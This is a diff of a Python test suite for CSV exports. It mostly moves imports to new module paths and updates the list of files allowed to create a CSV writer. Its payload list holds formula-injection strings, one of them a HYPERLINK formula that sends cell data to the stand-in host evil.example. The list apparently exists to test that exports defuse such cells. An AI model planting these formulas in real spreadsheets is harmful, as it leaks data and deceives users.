@@ -12,10 +12,14 @@ from pathlib import Path
 
 from sqlmodel import Session
 
-from app.analytics import get_store
-from app.analytics.store import FactRow
-from app.services import app_lists, campaign_export, campaigns, report_jobs, reports
-from app.settings import REPO_ROOT
+from app.campaigns import export as campaign_export
+from app.campaigns import service as campaigns
+from app.kernel.config import REPO_ROOT
+from app.reports import jobs as report_jobs
+from app.reports import service as reports
+from app.supply import app_lists
+from app.warehouse import get_store
+from app.warehouse.base import FactRow
 from tests.helpers import actor_of, wait_for_run
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-1+2", "@SUM(1)", "\t=1+1", "\r=1+1"]
@@ -117,7 +121,7 @@ def test_the_csv_writer_keeps_numbers_and_defuses_every_cell_a_spreadsheet_would
 def test_one_helper_writes_every_csv():
     """A new export written with its own csv.writer would skip the guard: only the shared writer (and the
     statistics store's internal bulk-load files, never downloaded) may make one."""
-    allowed = {"app/services/campaign_export.py", "app/analytics/duckdb_store.py"}
+    allowed = {"app/campaigns/export.py", "app/warehouse/duckdb_store.py"}
     writers = {str(path.relative_to(REPO_ROOT)) for folder in ("app", "components")
                for path in (REPO_ROOT / folder).rglob("*.py")
                if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))}
